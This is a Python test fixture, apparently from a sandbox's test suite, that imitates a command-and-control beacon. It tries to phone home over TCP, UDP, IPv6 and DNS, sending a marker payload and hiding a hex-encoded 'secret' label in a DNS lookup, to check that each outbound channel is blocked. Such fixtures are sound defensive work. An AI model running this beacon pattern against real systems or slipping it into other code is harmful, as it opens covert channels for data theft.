#!/usr/bin/env python3
"""HOSTILE TEST FIXTURE: the Python twin of sample-tools/c2-beacon (same arguments, output and
exit status), run natively. It tries every network channel it is given to phone home with
`beacon:c2-beacon`; the sandbox must block each one unless a policy grants it.

    c2-beacon.py [--tcp-ip IP:PORT] [--tcp-name NAME:PORT] [--dns DOMAIN] [--udp IP:PORT] [--ipv6 [ADDR]:PORT]

One line per channel: `<channel>: ok` or `<channel>: blocked: <error>`. Exit 0 if any channel
got through, 3 if all were blocked, 2 on bad arguments.
"""
import socket
import sys

PAYLOAD = b"beacon:c2-beacon"


def split(target):
    host, _, port = target.rpartition(":")
    return host.strip("[]"), int(port)


def tcp(target):
    with socket.create_connection(split(target), timeout=5) as s:
        s.sendall(PAYLOAD + b"\n")


def dns(domain):
    if not socket.getaddrinfo("736563726574." + domain, None):
        raise OSError("no addresses")


def udp(target):
    host, port = split(target)
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.sendto(PAYLOAD, (host, port))


def main(argv):
    channels = {"tcp-ip": tcp, "tcp-name": tcp, "ipv6": tcp, "dns": dns, "udp": udp}
    if not argv or len(argv) % 2 or any(not a.startswith("--") or a[2:] not in channels for a in argv[::2]):
        print(__doc__.splitlines()[3].strip(), file=sys.stderr)
        return 2
    any_ok = False
    for flag, target in zip(argv[::2], argv[1::2]):
        try:
            channels[flag[2:]](target)
            print(f"{flag[2:]}: ok")
            any_ok = True
        except (OSError, ValueError) as e:
            print(f"{flag[2:]}: blocked: {e}")
    return 0 if any_ok else 3


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
